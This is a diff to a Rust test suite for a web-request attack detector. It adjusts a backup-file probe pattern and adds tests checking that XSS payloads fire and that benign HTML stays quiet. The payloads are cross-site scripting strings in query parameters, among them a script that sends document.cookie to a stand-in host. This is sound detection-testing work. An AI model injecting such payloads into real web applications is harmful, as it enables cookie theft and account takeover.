@@ -661,7 +661,7 @@ fn each_scanner_probe_family_alone_reaches_the_threshold() {
     // are left alone), and database files archived under any name.
     for extension in archives {
         cases.push((
-            "(^|/)(".to_owned(),
+            "/(".to_owned(),
             vec![
                 format!("/backup.{extension}"),
                 format!("/www.{extension}"),
@@ -977,4 +977,59 @@ fn command_injection_stays_quiet_on_markdown_and_prose_in_bodies() {
 fn ssrf_stays_quiet_on_localhost_in_free_text() {
     let bodies = [r#"{"note":"the dev server runs on localhost:8080"}"#];
     assert_quiet(&run(ordinary_inputs(&["q=localhost+setup"], &bodies, &[])));
+}
+
+#[test]
+fn classic_xss_payloads_fire() {
+    let payloads = [
+        "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+        "q=<svg/onload=alert(1)>",
+        "q=%27-alert(1)-%27",
+        "q=%22;alert(document.domain)//",
+        "q=<body onload=alert('xss')>",
+        "q=<details open ontoggle=confirm(1)>",
+        "q=\" autofocus onfocus=prompt(1) x=\"",
+        "q=alert`1`",
+        "q=<a href=\"javascript:void(0)\">x</a>",
+        "q=<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
+        "q=prompt(String.fromCharCode(88,83,83))",
+        "next=<ScRiPt>fetch('//x/'+document.cookie)</ScRiPt>",
+    ];
+    let events: Vec<Event> = payloads
+        .iter()
+        .enumerate()
+        .map(|(index, query)| {
+            let mut event = request(1.0, &format!("203.0.113.{}", 150 + index), "/api/search");
+            event.url_query = Some((*query).to_owned());
+            event
+        })
+        .collect();
+    let findings = run(events);
+    for index in 0..payloads.len() {
+        assert_fires(
+            &findings,
+            "probe.xss",
+            &format!("203.0.113.{}", 150 + index),
+        );
+    }
+}
+
+#[test]
+fn xss_stays_quiet_on_ordinary_html_code_and_parameters() {
+    let queries = [
+        "onboarding=1&step=2",
+        "q=alert+(high)",
+        "q=prompt+engineering",
+        "q=confirm+order+123",
+        "tab=online",
+    ];
+    let bodies = [
+        r#"{"html":"<p><img src=\"/images/cat.png\" alt=\"a cat\"></p>"}"#,
+        r#"{"icon":"<svg viewBox=\"0 0 10 10\"><path d=\"M0 0h10\"/></svg>"}"#,
+        r#"{"embed":"<iframe src=\"https://video.example.com/embed/42\" allowfullscreen></iframe>"}"#,
+        r#"{"code":"const answer = prompt(question); alert(answer)"}"#,
+        r#"{"text":"Alert: your order is confirmed (confirm(ation) pending)"}"#,
+        r#"{"settings":{"onboarding":true,"online":"yes"}}"#,
+    ];
+    assert_quiet(&run(ordinary_inputs(&queries, &bodies, &[])));
 }
